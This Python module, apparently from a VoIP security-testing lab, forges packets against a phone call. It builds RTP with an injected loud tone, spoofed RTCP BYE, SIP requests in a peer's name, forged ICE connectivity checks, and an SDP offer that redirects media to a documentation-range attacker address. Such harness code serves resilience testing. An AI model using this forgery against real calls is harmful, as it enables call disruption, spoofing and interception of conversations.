"""What an attacker on the wire makes: UDP frames, RTP with a loud tone, RTCP BYE, SIP requests. Pure.

Everything is as good as an attacker without keys can make it: right addresses, right SSRC, next sequence number,
dialog identifiers where signalling showed them. What he cannot know is random.
"""

from __future__ import annotations

import struct
from ipaddress import IPv4Address, IPv6Address, ip_address
from typing import NamedTuple

import numpy as np

from segue.base.address import Address
from segue.base.entropy import Entropy
from segue.base.internet_checksum import internet_checksum
from segue.base.secret import Secret
from segue.lab.measure.packets import UDP
from segue.media.codecs import Codec, codec_for
from segue.protocols.rtcp.packets import Bye, Chunk, ReceiverReport, SourceDescription, write_rtcp
from segue.protocols.rtp.packet import RtpPacket
from segue.protocols.sip.message import Headers, Request
from segue.protocols.stun.attributes import (
    ICE_CONTROLLING,
    MOVED,
    NOMINATION,
    USE_CANDIDATE,
    XOR_MAPPED_ADDRESS,
)
from segue.protocols.stun.message import Class, Method, StunMessage, parse_stun, success_response

TONE_HZ = 1900.0
TONE_DBOV = -6.0
ATTACKER = {6: "2001:db8:66::66", 4: "198.18.66.66"}  # routed to nobody
ATTACKER_PORT = 6666
FORGING_PORT, REPLAYING_PORT, RELAYING_PORT = 6667, 6668, 6669  # where his connectivity checks come from
FAR_AHEAD = 1000  # by which his counters are above the genuine ones
_STATIC = {0: "PCMU", 8: "PCMA", 9: "G722"}  # RFC 3551 table 4; what is dynamic is taken for Opus


class Udp(NamedTuple):
    """A UDP datagram in an Ethernet frame."""

    link_source: bytes
    link_destination: bytes
    source: str
    source_port: int
    destination: str
    destination_port: int
    payload: bytes

    def to_bytes(self) -> bytes:
        """The frame, with all checksums."""
        source, destination = ip_address(self.source), ip_address(self.destination)
        udp = struct.pack("!HHHH", self.source_port, self.destination_port, 8 + len(self.payload), 0)
        udp += self.payload
        if isinstance(source, IPv6Address):
            pseudo = source.packed + destination.packed + struct.pack("!IxxxB", len(udp), UDP)
            header = struct.pack("!IHBB", 6 << 28, len(udp), UDP, 64) + source.packed + destination.packed
            kind = 0x86DD
        else:
            pseudo = source.packed + destination.packed + struct.pack("!xBH", UDP, len(udp))
            header = _ipv4_header(source, destination, len(udp))
            kind = 0x0800
        checksum = internet_checksum(pseudo + udp) or 0xFFFF
        udp = udp[:6] + checksum.to_bytes(2, "big") + udp[8:]
        return self.link_destination + self.link_source + kind.to_bytes(2, "big") + header + udp


def _ipv4_header(source: IPv4Address, destination: IPv4Address | IPv6Address, length: int) -> bytes:
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, UDP, 0)
    header += source.packed + destination.packed
    return header[:10] + internet_checksum(header).to_bytes(2, "big") + header[12:]


def forged_check(genuine: bytes, entropy: Entropy) -> bytes:
    """A connectivity check that claims a move to where it comes from, in the place of one that was seen: its names
    and role, counters far ahead of its own, nominated, and with the integrity of a wrong password."""
    seen = parse_stun(genuine)
    forged = StunMessage(Class.REQUEST, Method.BINDING, entropy.octets(12))
    ahead = {NOMINATION: (seen.get(NOMINATION) or 0) + FAR_AHEAD, MOVED: (seen.get(MOVED) or 0) + FAR_AHEAD}
    for attribute, value in seen.attributes:
        if attribute not in (USE_CANDIDATE, *ahead):
            forged.add(attribute, value)
    if seen.get(ICE_CONTROLLING) is not None:
        forged.add(USE_CANDIDATE, True).add(NOMINATION, ahead[NOMINATION])
    else:
        forged.add(MOVED, ahead[MOVED])
    return forged.write(Secret(entropy.octets(16)), fingerprint=True)


def forged_check_response(request: bytes, source: Address, entropy: Entropy) -> bytes:
    """What answers a check that came to the attacker, but for the password."""
    response = success_response(parse_stun(request)).add(XOR_MAPPED_ADDRESS, source)
    return response.write(Secret(entropy.octets(16)), fingerprint=True)


class ToneVoice:
    """A loud tone, 20 ms at a time, in the codec of a payload type."""

    def __init__(self, payload_type: int) -> None:
        self._codec: Codec = codec_for(_STATIC.get(payload_type, "opus"))
        self._position = 0

    def payload(self) -> bytes:
        codec = self._codec
        times = (self._position + np.arange(codec.frame_samples)) / codec.sample_rate
        self._position += codec.frame_samples
        peak = 32767 * 10 ** (TONE_DBOV / 20)
        return codec.encode(np.rint(peak * np.sin(2 * np.pi * TONE_HZ * times)).astype(np.int16))


def codec_name(payload_type: int) -> str:
    """What media of this payload type most likely is."""
    return _STATIC.get(payload_type, "opus")


def forged_rtp(
    genuine: RtpPacket, ticks: int, voice: ToneVoice, secure_length: int, entropy: Entropy
) -> bytes:
    """The packet after `genuine`, with the tone in it. `secure_length`: octets of a genuine SRTP packet, to which
    it is filled with random ones where the tag would be; 0 in the clear."""
    forged = RtpPacket(
        genuine.payload_type,
        False,
        (genuine.sequence + 1) & 0xFFFF,
        (genuine.timestamp + ticks) & 0xFFFFFFFF,
        genuine.ssrc,
        voice.payload(),
    ).to_bytes()
    missing = secure_length - len(forged)
    return forged + entropy.octets(missing if missing >= 4 else 10) if secure_length else forged


def forged_rtcp_bye(ssrc: int, secure: bool, entropy: Entropy) -> bytes:
    """The peer's BYE; as SRTCP with a likely index and a random tag (RFC 3711 section 3.4) when `secure`."""
    octets = write_rtcp(
        [
            ReceiverReport(ssrc, ()),
            SourceDescription((Chunk(ssrc, ((1, b"somebody@example.org"),)),)),
            Bye((ssrc,)),
        ]
    )
    return octets + (0x80000000 | 9).to_bytes(4, "big") + entropy.octets(10) if secure else octets


class DialogView(NamedTuple):
    """What an attacker knows of a dialog, from the side of the peer of the phone that he attacks."""

    call_id: str
    from_: str  # of the peer, with its tag
    to: str  # of the phone, with its tag
    target: str  # the phone's Contact
    contact: str  # the peer's
    invite_via: str = ""  # topmost of the INVITE that the phone received
    invite_cseq: int = 1
    origin: str = ""  # value of the peer's o=


def guessed_dialog(host: str, entropy: Entropy) -> DialogView:
    """When signalling is encrypted: nothing is known but the host."""
    host = f"[{host}]" if ":" in host else host
    return DialogView(
        f"{entropy.octets(8).hex()}@example.org",
        f"<sip:alice@example.org>;tag={entropy.octets(8).hex()}",
        f"<sip:bob@example.org>;tag={entropy.octets(8).hex()}",
        f"sip:bob@{host}",
        f"<sip:alice@{host}>",
        f"SIP/2.0/UDP {host};branch=z9hG4bK{entropy.octets(8).hex()}",
    )


def forged_request(method: str, dialog: DialogView, via: str, cseq: int, body: bytes = b"") -> bytes:
    """A request in the peer's name. `via`: the topmost Via."""
    fields = [
        ("Via", via),
        ("Max-Forwards", "70"),
        ("From", dialog.from_),
        ("To", dialog.to),
        ("Call-ID", dialog.call_id),
        ("CSeq", f"{cseq} {method}"),
    ]
    if method == "INVITE":
        fields.append(("Contact", dialog.contact))
    if body:
        fields.append(("Content-Type", "application/sdp"))
    return Request(method, dialog.target, Headers(fields), body).to_bytes()


def forged_offer(
    family: int, payload_type: int, origin: str, version: int, secure: bool, entropy: Entropy
) -> bytes:
    """An offer that wants the media at the attacker's address, in SRTP under a key of his when `secure`."""
    kind = f"IN IP{family} {ATTACKER[family]}"
    words = origin.split()
    who = f"{words[0]} {words[1]}" if len(words) == 6 else "- 1"
    where = " ".join(words[3:]) if len(words) == 6 else kind
    number = int(words[2]) + version if len(words) == 6 and words[2].isdigit() else version
    name = codec_name(payload_type)
    lines = [
        "v=0",
        f"o={who} {number} {where}",
        "s=-",
        f"c={kind}",
        "t=0 0",
        f"m=audio {ATTACKER_PORT} RTP/{'SAVP' if secure else 'AVP'} {payload_type}",
        f"a=rtpmap:{payload_type} {'opus/48000/2' if name == 'opus' else name + '/8000'}",
        "a=rtcp-mux",
        "a=sendrecv",
    ]
    if secure:
        lines.append(f"a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:{_base64(entropy.octets(30))}")
    return "".join(f"{line}\r\n" for line in lines).encode()


def _base64(octets: bytes) -> str:
    import base64

    return base64.b64encode(octets).decode()
